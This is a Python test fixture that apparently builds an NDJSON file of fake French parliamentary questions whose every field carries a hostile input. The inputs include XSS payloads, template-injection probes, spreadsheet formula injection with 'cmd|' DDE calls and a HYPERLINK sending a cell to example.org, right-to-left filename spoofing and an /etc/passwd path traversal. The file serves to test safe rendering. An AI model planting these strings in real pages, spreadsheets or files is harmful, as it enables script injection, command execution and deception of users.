"""Questions whose every text means harm to whoever shows it, as a file that `qe index` reads."""

from __future__ import annotations

import json
from collections.abc import Iterator
from pathlib import Path
from typing import Any, Final

HARMS: Final = {
    "script": "<script>alert(1)</script>",
    "attribute": '"><img src=x onerror=alert(1)>',
    "quote": "' onmouseover='alert(1)' style='position:fixed",
    "link": '<a href="javascript:alert(1)">javascript:alert(1)</a>',
    "address": "javascript:alert(1)",
    "template": "{{7*7}}{% raise %}${7*7}<%= 7*7 %>",
    "title": "</title></head><svg onload=alert(1)>",
    "comment": "]]><!-- <style>*{display:none}</style>",
    "field": "</textarea></option></script><iframe src=//example.org></iframe>",
    "base": '<base href="https://example.org/"><meta http-equiv="refresh" content="0;url=/aide">',
    "entities": "&lt;script&gt;alert(1)&lt;/script&gt;&#60;b&#62;&amp;amp;",
    "mark": '<mark onclick="alert(1)">marqué</mark><mark>',
    "formula": '=HYPERLINK("https://example.org/?x="&A1;"voir")',
    "other formula": "@SUM(1+1)*cmd|' /C calc'!A0",
    "hyphen": "-2+3+cmd|' /C calc'!A0",
    "one hyphen": "-",
    "right to left": "Facture \u202egnp.exe",
    "isolate": "Facture \u2067gnp.exe",
    "table": "<table><tr><td colspan=9999999>1<td onclick=alert(1)>2</tr><p>3</table></td></tr>",
    "controls": "a\u0000b\u0007c\u001bd\u2028e\ufefff",
    "query": "&q=autre#r1?page=2%22%3E%00",
    "path": "../../etc/passwd\\..\\x",
    "long": "É" * 300,
}
"""Each text with what it tries."""

WORD: Final = "lisible"
"""Stands in every title and text: what can be read whatever stands beside it."""

_LINES: Final = (
    *("tete_analyse", "rubrique", "auteur", "civilite", "prenom", "nom", "acteur_ref", "groupe"),
    *("groupe_sigle", "departement", "circonscription", "ministere", "ministere_developpe"),
    *("ministere_interroge", "motif_retrait", "source"),
)


def uid_of(number: int) -> str:
    """The question that holds a harm, by its place in `HARMS`."""
    return f"QANR5L17QE{number}"


def hostile_records() -> Iterator[dict[str, Any]]:
    """Two questions for each harm: one with an answer, and one that is withdrawn or waits."""
    for number, harm in enumerate(HARMS.values(), 1):
        record: dict[str, Any] = dict.fromkeys(_LINES, harm) | {
            "uid": uid_of(number),
            "legislature": 17,
            "type": "QE",
            "numero": number,
            "titre": f"{harm} {WORD}",
            "attributions": [{"date": "2026-01-06", "ministere": harm}],
            "texte_question": f"<p>{WORD} {harm} fin</p>",
            "date_question": "2026-01-06",
        }
        answer = {"texte_reponse": f"<p>{WORD} {harm}</p>{harm}", "date_reponse": "2026-05-12"}
        yield record | answer
        if number % 2:
            record["motif_retrait"] = None
        yield record | {"uid": uid_of(number + 100), "numero": number + 100}


def write_hostile_file(folder: Path) -> Path:
    """The file of these questions."""
    path = folder / "hostile.ndjson"
    path.write_text("\n".join(map(json.dumps, hostile_records())), encoding="utf-8")
    return path
